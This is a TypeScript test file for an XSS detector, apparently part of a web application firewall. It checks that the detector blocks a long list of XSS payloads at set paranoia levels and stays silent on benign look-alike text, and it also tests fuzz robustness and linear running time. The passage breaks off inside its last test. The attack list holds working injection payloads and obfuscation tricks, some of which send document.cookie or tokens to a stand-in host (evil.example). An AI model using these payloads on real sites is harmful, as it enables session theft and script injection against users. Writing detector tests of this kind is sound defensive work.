import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { DetectorContext, Finding, Paranoia } from '../../finding.ts';
import { scanTags, type HtmlTag } from './html.ts';
import { checkJs, MODE_AFTER_STRING, MODE_BARE } from './js.ts';
import { xssDetector } from './xss.ts';
import { base64Blob } from '../../../../test/helpers/detector-harness.ts';

function run(value: string, paranoia: Paranoia = 3, source: DetectorContext['source'] = 'query'): Finding[] {
  const ctx: DetectorContext = { source, name: 'q', isName: false, paranoia, layers: [] };
  const out: Finding[] = [];
  xssDetector.detect(value, ctx, (f) => out.push(f));
  return out;
}

/** Score of the findings that count at `paranoia`. */
function scoreAt(findings: Finding[], paranoia: Paranoia): number {
  return findings.filter((f) => f.paranoia <= paranoia).reduce((sum, f) => sum + f.score, 0);
}

function describe(findings: Finding[]): string {
  return findings.map((f) => `${f.ruleId}/PL${f.paranoia}/${f.score} «${f.matched}»`).join('; ') || 'nothing';
}

// [value, paranoia at which it must block (score >= 5)]. Values are as the engine hands them over: decoded.
const ATTACKS: Array<[string, Paranoia]> = [
  ['hello <script> world', 2],
  ['"><script>', 1],
  ['<script>x</script>', 1],
  // htmx and Vue/Alpine event bindings run their values as script
  ['<div hx-get="/x" hx-trigger="load" hx-on::before-request="alert(document.domain)">', 1],
  ['<button hx-on:click="fetch(\'//evil.example/?c=\'+document.cookie)">click</button>', 1],
  ['<img src=x v-bind:onerror="alert(1)">', 1],
  ['<img src=x :onerror="alert(1)">', 1],
  // <script> in all its spellings
  ['<script>alert(document.domain)</script>', 1],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 1],
  ['<script\n>fetch("//evil.example/?c="+document.cookie)</script>', 1],
  ['<ScRiPt/src="//evil.example/a.js">', 1],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', 1],
  ['<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>', 1],
  ['"><script>prompt(1)</script>', 1],
  ['<<script>alert(7);//<</script>', 1],
  ['name=<script>', 1],
  ['<script', 2],
  // event handlers in tags
  ['<img src=x onerror=alert(1)>', 1],
  ['<IMG SRC=x ONERROR=alert(1)>', 1],
  ['<svg/onload=alert(1)>', 1],
  ['<svg\tonload=confirm(1)>', 1],
  ['<svg\nonload\n=\nconfirm(1)>', 1],
  ['<body onpageshow=prompt(1)>', 1],
  ['<details open ontoggle=print()>', 1],
  ['<input autofocus onfocus=alert(1)>', 1],
  ['<marquee onstart=alert(1)>scroll</marquee>', 1],
  ['<div onmouseover=\'alert(1)\'>hover me</div>', 1],
  ['<a href="#"onclick="alert(1)">x</a>', 1],
  ['<custom-element onpointerenter=top.location="//evil.example">', 1],
  ['<svg><animate onbegin=alert(1) attributeName=x dur=1s>', 1],
  ['<xyz onanythingnew=steal(1)>', 1],
  ['<img src=x onerror=alert(1)//', 1],
  ['<img src=x onerror="alert&#40;1&#41;">', 1],
  ['<img/src/onerror=alert(1)>', 1],
  ['<p title="a"onmouseenter="alert(1)">', 1],
  ['<iframe/onload=alert(1)>', 1],
  ['<x onclick=alert`1`>click', 1],
  ['<b <script>alert(1)</script>', 1],
  // URL attributes with script schemes
  ['<a href="javascript:alert(1)">x</a>', 1],
  ['<a href="JaVaScRiPt:alert(1)">x</a>', 1],
  ['<a href=" javascript:alert(1)">x</a>', 1],
  ['<a href="java\tscript:alert(1)">x</a>', 1],
  ['<a href="java\nscript:alert(1)">x</a>', 1],
  ['<a href="&#106;avascript:alert(1)">x</a>', 1],
  ['<form action=javascript:alert(1)><input type=submit>', 1],
  ['<button formaction=javascript:alert(1)>go', 1],
  ['<math><mtext><a xlink:href="javascript:alert(1)">x</a>', 1],
  ['<svg><a href="javascript:alert(1)"><text x=1 y=1>x</text></a></svg>', 1],
  ['<svg><animate attributeName=href values="x;javascript:alert(1)" /><a><text>x</text></a>', 1],
  ['<svg><set attributeName=href to=javascript:alert(1) />', 1],
  ['<a href="vbscript:msgbox(1)">x</a>', 1],
  ['<iframe src="java sc ript:al ert(1)"></iframe>', 1],
  ['<a href=javascript:prompt(document.domain)>x', 1],
  // bare script URLs (a redirect or link parameter)
  ['javascript:alert(document.cookie)', 1],
  ['JAVASCRIPT:alert(1)', 1],
  ['javascript:/**/alert(1)', 1],
  [' javascript:fetch("//evil.example/"+document.cookie)', 1],
  ['java\tscript:alert(1)', 1],
  ['javascript\n:void(0)', 1],
  ['vbscript:MsgBox+1', 1],
  // data: URLs
  ['data:text/html,<script>alert(1)</script>', 1],
  ['data:text/html;base64,PGgxPmhpPC9oMT4=', 1],
  ['<object data="data:text/html;base64,PGgxPmhpPC9oMT4=">', 1],
  ['<script src="data:,alert(1)"></script>', 1],
  ['<iframe src="data:image/svg+xml,<svg onload=alert(1)>">', 1],
  ['<embed src="data:image/svg+xml;base64,PHN2Zz4=">', 1],
  ['data:image/svg+xml;base64,PHN2Zz4=', 2],
  // elements that load other content
  ['<iframe src=//evil.example>', 1],
  ['<iframe src=//evil.example width=0 height=0>', 1],
  ['<iframe src="//evil.example" style="display: none">', 1],
  ['"><iframe src=//evil.example>', 1],
  ['\'><link rel=stylesheet href=//evil.example/x.css>', 1],
  ['<meta http-equiv="Set-Cookie" content="sid=attacker">', 1],
  ['<meta http-equiv="content-type" content="text/html; charset=UTF-7">', 1],
  ['<embed src=movie.swf>', 1],
  ['<object data=x.swf type=application/x-shockwave-flash></object>', 1],
  ['<base href=//evil.example/>', 1],
  ['<meta http-equiv="refresh" content="0;url=//evil.example">', 1],
  ['<meta charset="UTF-7">', 1],
  ['<link rel=import href=//evil.example/x.html>', 1],
  ['<applet code=X.class></applet>', 1],
  ['<frameset><frame src=//evil.example>', 1],
  ['<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>', 1],
  ['<v:vmlframe src="evil.example/x.fml"/>', 1],
  ['<?import namespace="t" implementation="#default#time2">', 1],
  ['<style>@import "//evil.example/x.css";</style>', 2],
  ['<form action=//evil.example/login><input name=password>', 2],
  // CSS
  ['<div style="width:expression(alert(1))">', 1],
  ['<p style="background:url(\'javascript:alert(1)\')">', 1],
  ['<style>body{-moz-binding:url(//evil.example/x.xml#x)}</style>', 1],
  ['<style>@import \'http://evil.example/x.css\';</style>', 2],
  ['<div style="behavior: url(x.htc)">', 1],
  ['<div style="xss:expr/**/ession(alert(1))">', 1],
  ['color:red;background:url(javascript:alert(1))', 1],
  ['width: expression(alert(1))', 1],
  ['x:url(JAVASCRIPT', 1],
  ['-moz-binding:url(//evil.example/x.xml#x)', 1],
  // attribute injection: the value closes the application's attribute
  ['" onmouseover="alert(1)', 1],
  ['\' onfocus=\'alert(1)\' autofocus=\'', 1],
  ['"onclick=prompt(1)//', 1],
  ['" autofocus onfocus=alert(document.cookie) x="', 1],
  ['x" style="background:url(javascript:alert(1))', 1],
  ['" href="javascript:alert(1)', 1],
  ['"/onmouseover=alert(1)//', 1],
  ['"onwheel=steal(7)', 1],
  ['x onmouseover=alert(1)', 1],
  ['Mozilla/5.0 (X11; Linux) onload=alert(document.domain)', 1],
  ['"><img src=x onerror=alert(1)>', 1],
  ['" autof<x>ocus o<x>nfocus=alert<x>(1) x="', 1],
  ['"onzoom=', 2],
  ['  onload= ', 2],
  // JavaScript string break-outs
  ['\';alert(1);//', 1],
  ['"-alert(1)-"', 1],
  ['\'+alert(1)+\'', 1],
  ['\\\';alert(1);//', 1],
  ['";document.location=\'//evil.example/?\'+document.cookie;//', 1],
  ['\'}));alert(1);//', 1],
  ['\'-prompt(document.domain)-\'', 1],
  ['x";setTimeout(name,0)//', 1],
  ['x\';fetch(\'//evil.example\',{method:\'POST\',body:document.cookie});\'', 1],
  ['";eval(name);//', 1],
  ['</script><script>alert(1)</script>', 1],
  ['${alert(1)}', 1],
  ['`;top.location=`//evil.example', 1],
  // JavaScript sinks in the value itself
  ['alert(1)', 1],
  ['alert(document.domain)', 1],
  ['prompt`1`', 1],
  ['confirm.call(null, 1)', 1],
  ['alert.apply(null,[1])', 1],
  ['(alert)(1)', 1],
  ['(0,eval)("alert(1)")', 1],
  ['eval(atob("YWxlcnQoMSk="))', 1],
  ['top["al"+"ert"](1)', 1],
  ['window[\'ev\'+\'al\'](\'x\')', 1],
  ['self[/**/"alert"](1)', 1],
  ['[1].map(alert)', 1],
  ['setTimeout("alert(1)", 0)', 1],
  ['setInterval(\'fetch("//x.example")\', 100)', 1],
  ['new Function("alert(1)")()', 1],
  ['\'\'.constructor.constructor(\'alert(1)\')()', 1],
  ['document.write("<p>hi</p>")', 1],
  ['location=\'javascript:alert(1)\'', 1],
  ['document.location=\'//evil.example/?c=\'+document.cookie', 1],
  ['new Image().src=\'//evil.example/?\'+document.cookie', 1],
  ['navigator.sendBeacon(\'//evil.example\', document.cookie)', 1],
  ['fetch(\'//evil.example/\'+localStorage.token)', 1],
  ['import(\'//evil.example/x.js\')', 1],
  ['alert?.(1)', 1],
  ['window.alert(1)', 1],
  ['document[\'cookie\']', 1],
  ['document/**/.cookie', 1],
  ['document.cookie', 1],
  ['onerror=alert;throw 1', 1],
  ['{onerror=eval}throw"=alert\\x281\\x29"', 1],
  ['[].sort.call`${alert}1`', 1],
  ['Reflect.apply.call`${alert}${window}${[1]}`', 1],
  ['String.fromCharCode(88,83,83)', 2],
  ['atob()', 2],
  ['setInterval(code, 1)', 2],
  ['window.location', 2],
  ['top[/al/.source+/ert/.source](1)', 1],
  ['self[atob(\'YWxlcnQ=\')](1)', 1],
  ['Set.constructor`alert\x28document.domain\x29```', 1],
  ['<div ng-app><div ng-click=$event.view.alert(1)>click</div></div>', 1],
  // Vue's expression directives and a template expression reaching the window through the framework's objects
  ['<p v-show="_c.constructor`alert(1)`()">', 1],
  ['{{$el.ownerDocument.defaultView.alert(1)}}', 1],
  ['<button @click="fetch(\'//evil.example/\'+document.cookie)">x</button>', 1],
  ['"><img src=x>', 2],
  ['<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1) /></svg>#x" />', 1],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 1],
  ['<table background="javascript:alert(1)">', 1],
  ['<a href=javascript&colon;alert&lpar;1&rpar;>x</a>', 1],
  ['<link rel=stylesheet href="data:,*%7bx:expression(alert(1))%7d">', 1],
  ['<img src=x onerror=\\u0061lert(1)>', 1],
  // JSFuck
  ['(![]+[])[+!+[]]', 1],
  ['[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]]', 1],
  ['+!![]', 1],
  // client-side template expressions (the ssti detector owns these at paranoia 1)
  ['{{constructor.constructor(\'alert(1)\')()}}', 2],
  // closing raw-text elements the value did not open
  ['</textarea></title></style><p>hi', 1],
  ['</script>', 2],
  // attributes without a tag, right at the start of the value or right after the quote that broke out
  ['  onfocus= ', 1],
  ['\t onanimationstart=x', 1],
  ['\'onpointerdown=', 1],
  ['<"onfocusin=', 1],
  ['  onmadeupevent= ', 2],
  ['" formaction=', 2],
  // other readings of the value: UTF-7, UTF-8 bytes read as Latin-1, high bit stripped, miscased references
  ['+ADw-svg/onload+AD0-alert(1)+AD4-', 1],
  ['x+ACI- onmouseover+AD0-alert(1) y+AD0-+ACI-', 1],
  ['\u00ef\u00bc\u009cscript\u00ef\u00bc\u009ealert(2)\u00ef\u00bc\u009c/script\u00ef\u00bc\u009e', 1],
  ['\u00bcimg src=x onerror=alert(3)\u00be', 1],
  ['\u043cscript src=//evil.example/a.js\u043e', 1],
  ['j&TAB;avascript:alert(4)', 1],
  ['java&newline;script&Colon;prompt(5)', 1],
  // unusual tag spellings
  ['<:vmlframe src=//evil.example/x.vml>', 1],
  ['$<s c r i p t', 2],
  ['<i f r a m e src=x>', 2],
  // a data: URL of markup, a script that rewrites the page
  ['data:,<b>hi</b>', 2],
  ['document.body.appendChild(document.createElement("iframe"))', 2],
  // polyglots
  ['javascript:/*--></title></style></textarea></script></xmp><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>', 1],
];

// Text that looks dangerous but is not: nothing may fire at paranoia 1.
const BENIGN: string[] = [
  // the tag named in a sentence, with no code after it
  '<script> tag tutorial',
  'how to use <script> in html',
  'what is <script async> vs defer',
  '<button hx-on:click="toggle()">menu</button>',
  'Please select one option from the list below.',
  // an SVG logo embedding a PNG, as design tools export them
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="10" height="10"/></svg>',
  'union station', 'drop shipping', '1=1 pairing', 'select * from the menu',
  'O\'Brien\'s pub, it\'s great', 'D\'Artagnan said "en garde!"',
  'a < b and c > d', 'x<y', 'I <3 this', '> quoted reply\n> another line', 'h2<h1',
  'if (a < b && c > d) { return a; }',
  '<b>bold</b> and <i>italic</i>',
  '<p>Hello <a href="https://example.com/page?x=1">link</a></p>',
  '<img src="https://cdn.example.com/a.png" alt="photo">',
  '<ul><li>one</li><li>two</li></ul>',
  '<enter type here>', 'List<String> names = new ArrayList<>();', 'Map<String, Object> m;',
  '# Title\n\n* item one\n* item two\n\n[link](https://example.com) and ![img](https://example.com/a.png)',
  'Use `npm install` and then `npm test`, see [docs](https://example.com/docs).',
  '- [ ] todo\n- [x] done',
  'The word javascript appears here, as does "JavaScript: The Good Parts".',
  'JavaScript: Basics of JavaScript Language',
  'I enabled javascript in my browser settings',
  'onboarding=true', 'https://example.com/?on=1&onboarding=true&online=yes', 'once=1&only=2',
  'Set an alert for price drops', 'Manage alert(s) and prompt(s) in settings', 'Please confirm (yes/no)',
  'Confirm your email address (required)', 'evaluation of the prompt engineering results',
  'alert: server is down', 'The prompt was: "write a poem"',
  'document.pdf', 'window cleaning service', 'location: Berlin', 'cookie policy', 'top 10 parent tips',
  'self-assessment form', 'The document [1](https://example.com/ref) describes it.',
  'On Mon, Jan 1, 2024 at 10:00, John <john@example.com> wrote:\n> Hi there\n> see you',
  'image (1).png', 'my-script.js', 'setup.exe', 'report_final_v2.docx', 'C:\\Program Files\\App\\app.exe',
  'Samsung 55" TV - 4K UHD <HDR10+> edition', 'Cable 3\' (1m) long, "braided"',
  'function add(a, b) { return a + b; }',
  'const total = items.reduce((s, i) => s + i.price, 0);',
  'console.log(\'hello world\');',
  'fetch(\'/api/items\').then(r => r.json()).then(render)',
  'document.getElementById(\'app\').textContent = \'Hi\';',
  '$(\'#menu\').toggleClass(\'open\');',
  'import { useState } from \'react\';',
  'const mod = await import(\'./locale/de.js\');',
  'setTimeout(() => refresh(), 1000);',
  '<template><div>{{ message }}</div></template>',
  '{{ user.name }}', 'Hello ${name}, welcome back', '{{#each items}}<li>{{this}}</li>{{/each}}',
  'x = [1, 2, 3].map(n => n * 2)', 'arr[0] = [];', 'var empty = [] + [];',
  'SELECT name FROM users WHERE id = 1',
  'https://example.com/search?q=javascript+tutorial', 'https://example.com/path/to/page#section',
  'mailto:someone@example.com', 'tel:+1234567', 'http://example.com/a:b/c', 'urn:isbn:0451450523',
  'The function (see appendix) returns results.',
  'color: red; background: url(https://example.com/bg.png)', 'scroll-behavior: smooth',
  'A regular expression (regex) matches text.', 'Import duties (see table) apply.',
  'My cat\'s name is "Whiskers"; she\'s 3 years old.',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
  'eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U',
  'aGVsbG8gd29ybGQ=', 'price < 100 & rating > 4', '=SUM(A1:B2)',
  'javascript: the definitive guide', 'he said "don\'t" - then left',
  '{"a":1,"b":[1,2,3],"c":{"d":"e"}}', '["x", "y"]',
  'Let me know what you think :) (or :( if not)', 'Call me at (555) 123-4567',
  'rock\'n\'roll', 'It\'s 5 o\'clock; let\'s go!', 'The "main" function - entry point',
  '<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head><body><p>Hi</p></body></html>',
  '<style>@import url("https://fonts.googleapis.com/css?family=Roboto");p{color:#333}</style><p>Newsletter</p>',
  '<iframe width="560" height="315" src="https://www.youtube.com/embed/abc123" allowfullscreen></iframe>',
  '<link href="https://fonts.googleapis.com/css2?family=Inter" rel="stylesheet">',
  '<a href="javascript:void(0)" class="btn">Menu</a>', '<a href="javascript://">x</a>',
  'step 1 --> step 2 <-- back', 'Rating: >:( and <:) and -->',
  '<div class="video"><iframe src="https://player.vimeo.com/video/1" allowfullscreen></iframe></div>',
  '<p class="lead"><b>Hello</b></p><p title="x"><img src="/a.png"></p>',
  '<button ng-click="save()">Save</button> <a @click="open = !open">Menu</a>',
  // V8 stack frames in error reports: functions named, not called
  'TypeError: x is not a function\n    at new Function (<anonymous>)\n    at https://a.example/app.js:1:2',
  'TypeError: x\n    at Function.globalEval (https://code.jquery.com/jquery-3.7.1.min.js:2:2645)\n    at Object.eval (https://a.example/x.js:1:1)',
  'EvalError: x\n    at eval (eval at globalEval (https://code.jquery.com/jquery-3.7.1.min.js:2:2645), <anonymous>:1:1)\n    at https://shop.example.com/app.js:10:5',
  // XML vocabularies with HTML-named elements: S3's DeleteObjects, XML Signature
  '<Delete xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Object><Key>a/b.txt</Key></Object><Quiet>true</Quiet></Delete>',
  '<Invoice xmlns="urn:x" xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:Signature><ds:Object/></ds:Signature></Invoice>',
  '<div v-if="user.isAdmin">Admin</div><li v-for="item in items">{{ item.name }}</li><input v-model="form.email">',
  'What does alert() do in JavaScript?', 'Use eval() carefully', 'Call confirm() before deleting',
  'How do I read document.cookie from an iframe?', 'onclick handler not firing', 'on error resume next',
  'https://www.google.com/search?q=how+to+use+window.location+in+javascript',
  'query { user(id: 1) { name posts(first: 10) { edges { node { title } } } } }',
  '_ga=GA1.2.1234567890.1699999999; _gid=GA1.2.987654321.1700000000; theme=dark',
  'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'window.open(\'https://example.com/help\', \'_blank\')', 'location.href = \'/login\'',
  'Price: $5 (was $10) -- 50% off!!! ->> buy now <<-', 'a\'b"c`d', 'it\'s a "test" of `code`',
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z"/></svg>',
  'Tom & Jerry <tom@example.com>, "Jerry" <jerry@example.com>', '=HYPERLINK("https://example.com","Click")',
  'vbscript: the basics (part 1)', 'Note: see the attached file (page 2)',
  // prose and data around the new readings: attributes, UTF-7-like text, Latin-1 and Cyrillic text, references
  'He said "online=yes" and left', 'a "onclick" handler', ' once=1', 'C++ +AGA- and A+B=C',
  'iVBORw0KGgo+AAAANSUhEUg+ACIAAAAg+ADwAAAA', '\u00bd price \u00bc off, \u00be full', 'caf\u00c3\u00a9 cr\u00c3\u00a8me',
  '\u043c\u043e\u0441\u043a\u0432\u0430 \u0438 \u043c\u043e\u0440\u0435: \u043c\u0435\u0441\u0442\u043e \u0434\u043b\u044f \u043e\u0442\u0434\u044b\u0445\u0430',
  'Fish &AMP; Chips &LT;3', 'R&D; Q&A; AT&T;', 'a <b c d e f', 'I <3 f o r m s',
  'Data: 12, 14, 18', 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
];

test('attacks are found, in the xss category, at the expected paranoia level', () => {
  const failures: string[] = [];
  for (const [value, paranoia] of ATTACKS) {
    const findings = run(value, 3);
    if (findings.some((f) => f.category !== 'xss')) failures.push(`${JSON.stringify(value)}: wrong category`);
    if (scoreAt(findings, paranoia) < 5) {
      failures.push(`${JSON.stringify(value)}: expected to block at PL${paranoia}, got ${describe(findings)}`);
    }
  }
  assert.deepEqual(failures, []);
});

test('benign text that looks dangerous produces no finding at paranoia 1', () => {
  const failures: string[] = [];
  for (const value of BENIGN) {
    // (an embedded video is rich text, which bodies carry: see the test after this one for one in a URL)
    const findings = run(value, 1, value.includes('<iframe') ? 'body' : 'query');
    if (findings.length > 0) failures.push(`${JSON.stringify(value)}: ${describe(findings)}`);
  }
  assert.deepEqual(failures, []);
});

test('an iframe with an http(s) page is rich text in a body (paranoia 2) and framing another site anywhere else (paranoia 1)', () => {
  for (const value of ['<iframe width="560" height="315" src="https://www.youtube.com/embed/abc123" allowfullscreen></iframe>', '<iframe src=http://evil.example/x.html <']) {
    assert.equal(scoreAt(run(value, 1, 'body'), 1), 0, `${value} in a body`);
    assert.ok(scoreAt(run(value, 2, 'body'), 2) >= 5, `${value} in a body at paranoia 2`);
    for (const source of ['query', 'path', 'header', 'cookie'] as const) assert.ok(scoreAt(run(value, 1, source), 1) >= 5, `${value} in ${source}`);
  }
});

test('some benign text is only a notice at higher paranoia levels (documented, not blocking at PL2)', () => {
  // Formatting tags and links are notices (PL2/PL3); they never reach the blocking threshold alone at PL2.
  for (const value of ['<b>bold</b>', '<p>Hello <a href="https://example.com/">link</a></p>', '<img src="/a.png" alt="x">']) {
    const findings = run(value, 3);
    assert.ok(findings.length > 0, `${value} gives a notice at PL3`);
    assert.ok(scoreAt(findings, 2) < 5, `${value} does not block at PL2: ${describe(findings)}`);
  }
  // These fire at PL2 (documented): a code snippet writing the DOM, a javascript: link without code.
  // Code snippets that call a dialog, and markup with inline handlers, do fire at PL1: they are what an attack
  // looks like (use an exclusion for fields that legitimately hold code or HTML).
  for (const value of ['if (x) { alert(\'Saved!\'); }', '<a href="/page" onclick="track()">Page</a>']) {
    assert.ok(run(value, 1).length > 0, value);
  }
  for (const value of ['document.getElementById("x").innerHTML = html;', 'javascript:void(0)', 'Manage alert(s) here',
    'self["$"]', '</textarea>', 'document.getElementById("x").innerHTML="<b>x</b>"']) {
    const findings = run(value, 3);
    assert.ok(findings.some((f) => f.paranoia === 2), `${value}: ${describe(findings)}`);
  }
});

test('findings are well formed', () => {
  const ids = new Set<string>();
  for (const [value] of ATTACKS) {
    for (const f of run(value, 3)) {
      assert.match(f.ruleId, /^xss-[a-z-]+$/);
      assert.ok(f.paranoia >= 1 && f.paranoia <= 3);
      assert.ok([2, 3, 4, 5].includes(f.score));
      assert.ok(f.matched.length > 0 && f.matched.length <= 120, `${f.ruleId}: ${f.matched.length}`);
      assert.ok(f.message.length > 0);
      ids.add(f.ruleId);
    }
  }
  // Every rule family is exercised by the samples above.
  for (const id of ['xss-script-tag', 'xss-dangerous-tag', 'xss-event-handler', 'xss-attribute-injection', 'xss-js-url',
    'xss-data-url', 'xss-css', 'xss-js-breakout', 'xss-js-sink', 'xss-js-code', 'xss-js-obfuscation', 'xss-jsfuck',
    'xss-template-expression', 'xss-rawtext-breakout', 'xss-html-tag']) {
    assert.ok(ids.has(id), `rule ${id} is exercised`);
  }
});

test('the paranoia level in force filters findings', () => {
  assert.equal(run('<b>bold</b>', 1).length, 0);
  assert.ok(run('<b>bold</b>', 3).length > 0);
  assert.ok(run('<script>', 1).length > 0);
});

test('the HTML scanner sees tags as a browser does', () => {
  const tags: HtmlTag[] = [];
  const src = '<svG/x=">"/oNloaD=confirm()//>  <a href=\'x\'title="y"><!--<img src=1>--></a>';
  scanTags(src, 0, src.length, (t) => { tags.push(t); });
  assert.equal(tags[0].local, 'svg');
  assert.deepEqual(tags[0].attrs.map((a) => a.name), ['x', 'onload']);
  assert.equal(src.slice(tags[0].attrs[1].valueStart, tags[0].attrs[1].valueEnd), 'confirm()//');
  // An unfinished tag swallows what follows as attributes, as in a browser.
  const open: HtmlTag[] = [];
  scanTags('<b <script>', 0, 11, (t) => { open.push(t); });
  assert.deepEqual(open[0].attrs.map((x) => x.name), ['<script']);
  const a = tags.find((t) => t.local === 'a' && !t.endTag);
  assert.deepEqual(a?.attrs.map((x) => x.name), ['href', 'title']);
  // Comments are scanned through: the <img> inside is seen.
  assert.ok(tags.some((t) => t.local === 'img'));
  assert.ok(tags.some((t) => t.local === 'a' && t.endTag));
});

test('the JavaScript checker tells code from prose', () => {
  const complete = (s: string) => checkJs(s, 0, s.length, MODE_BARE).complete;
  assert.ok(complete('alert(1)'));
  assert.ok(complete('if (a) { b(); } else c = [1, 2, {x: `t${y}`}];'));
  assert.ok(complete('x = /re[/]x/g.test(s) ? 1 : 2'));
  assert.ok(!complete('how do I read cookies'));
  assert.ok(!complete('alert(1'));
  assert.ok(!complete('a +'));
  // After a quote that closed the application's string.
  const after = (s: string) => checkJs(s, 1, s.length, MODE_AFTER_STRING);
  assert.ok(after('\';alert(1);//').errorAt === '\';alert(1);//'.length);
  assert.ok(after('\'));alert(1)}catch(e){}//').errorAt === '\'));alert(1)}catch(e){}//'.length);
  assert.ok(after('"-alert(1)-"').endedInString);
  assert.equal(after('\'Brien said hi').errorAt, 1);
});

test('never throws, whatever the input', () => {
  let seed = 12345;
  const rand = () => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed; };
  const alphabet = '<>"\'`=/\\ \t\n(){}[];:,.+-!?&#%$*@onerrorscriptjavascript:alert1';
  for (let i = 0; i < 2000; i++) {
    const len = rand() % 200;
    let s = '';
    for (let k = 0; k < len; k++) {
      s += rand() % 5 === 0 ? String.fromCharCode(rand() % 0x3000) : alphabet[rand() % alphabet.length];
    }
    assert.doesNotThrow(() => run(s, 3));
  }
  for (const s of ['<', '<a', '<a b', '<a b=', '<a b="', '"', '\'', '`', '${', '{{', 'javascript:', '[]', '<!--', '</', '<?',
    '\u0000<script\u0000>', '\ud800', 'a'.repeat(70000), '"'.repeat(5000), '<'.repeat(5000), '(('.repeat(5000)]) {
    assert.doesNotThrow(() => run(s, 3));
  }
});

test('linear time: 200 KB of prose and of pathological strings', () => {
  const prose = 'The quick brown fox jumps over the lazy dog. Please select an item (see below) and confirm; it\'s ' +
    'O\'Brien\'s "favourite" shop at https://example.com/a?b=c&d=e. ';
  const size = 200 * 1024;
  const inputs: Record<string, string> = {
    prose: prose.repeat(Math.ceil(size / prose.length)).slice(0, size),
    tags: '<a '.repeat(size / 3),
    unclosed: '<a href="'.repeat(size / 9),
    calls: 'alert('.repeat(size / 6),
    quotes: '\'"`'.repeat(size / 3),
    schemes: 'javascript:'.repeat(size / 11),
    jsfuck: '[]+'.repeat(size / 3),
    templates: '${'.repeat(size / 2),
    mustache: '{{'.repeat(size / 2),
    attributes: ' onload=alert(1)'.repeat(size / 16),
    brackets: 'window['.repeat(size / 7),
    comments: '/*'.repeat(size / 2),
  };
  // Warm up, then time each (CPU time; generous bound for a loaded machine: the target is well under 50 ms).
  for (const v of Object.values(inputs)) run(v.slice(0, 5000), 3);
  const slow: string[] = [];
  for (const [name, v] of Object.entries(inputs)) {
    const start = process.cpuUsage();
    run(v, 3);
    const used = process.cpuUsage(start);
    const ms = (used.user + used.system) / 1000;
    if (ms > 150) slow.push(`${name}: ${ms.toFixed(1)} ms`);
  }
  assert.deepEqual(slow, []);
});

test('overlapping <style> contents: each is read as CSS, and a run of them stays linear', () => {
  // Every `<style>` before one `</style>` may be the one a page opens: code in any of them is found.
  const later = '<style>body{color:red}<style>/* x */<style>x{background:url(javascript:alert(1))}';
  assert.ok(run(later, 1).some((f) => f.ruleId === 'xss-css' && f.paranoia === 1), describe(run(later, 1)));
  // After a comment that the first content's reading would swallow, a later `<style>` starts a reading of its own.
  const hidden = '<style>/*<style>x{width:expression(alert(1))}';
  assert.ok(run(hidden, 1).some((f) => f.ruleId === 'xss-css' && f.paranoia === 1), describe(run(hidden, 1)));
  // 64 KB of `<style>` took seconds (each content read to the end); now one reading covers them all.
  const many = '<style>'.repeat(10_000);
  const before = process.cpuUsage();
  const findings = run(many, 1);
  const used = process.cpuUsage(before);
  assert.ok((used.user + used.system) / 1000 < 500, `${(used.user + used.system) / 1000} ms`);
  assert.ok(!findings.some((f) => f.ruleId === 'xss-css'), describe(findings));
  // Contents that each need a reading of their own (a comment before the next) are read up to eight times per
  // `</style>`; past that the value cannot be inspected in linear time and is reported.
  const overlapping = '<style>/*'.repeat(9);
  assert.ok(!run('<style>/*'.repeat(8), 1).some((f) => f.ruleId === 'xss-css'));
  assert.ok(run(overlapping, 1).some((f) => f.ruleId === 'xss-css' && f.paranoia === 1 && f.message.includes('not inspected')), describe(run(overlapping, 1)));
});

test('a run of unclosed processing instructions or tag names stays linear and their insides are still read', () => {
  for (const unit of ['<?ph', '<?xml', '<a:b', '<a<a']) {
    const value = unit.repeat(65_536 / unit.length);
    const before = process.cpuUsage();
    run(value, 1);
    const used = process.cpuUsage(before);
    assert.ok((used.user + used.system) / 1000 < 500, `${unit}: ${(used.user + used.system) / 1000} ms`);
  }
  // a tag inside an unclosed processing instruction is found, as before
  assert.ok(run('<?xml version="1.0"<svg onload=alert(1)>', 1).some((f) => f.ruleId === 'xss-event-handler'), describe(run('<?xml version="1.0"<svg onload=alert(1)>', 1)));
  assert.ok(run('<?import namespace="t" implementation="evil.htc">', 1).some((f) => f.paranoia === 1));
});

test('10 KB of ordinary text takes well under a millisecond (median)', () => {
  const text = 'Order #1234: two items (a lamp and a chair), shipping to 10 Main St., Springfield. Thanks! ';
  const v = text.repeat(Math.ceil(10240 / text.length)).slice(0, 10240);
  for (let i = 0; i < 50; i++) run(v, 1);
  const times: number[] = [];
  for (let i = 0; i < 51; i++) {
    const start = performance.now();
    run(v, 1);
    times.push(performance.now() - start);
  }
  times.sort((a, b) => a - b);
  assert.ok(times[25] < 15, `median ${times[25].toFixed(3)} ms`);
});

test('markup hidden in the middle of a long base64 value is still found, UTF-7 too', () => {
  const blob = base64Blob(75_000);
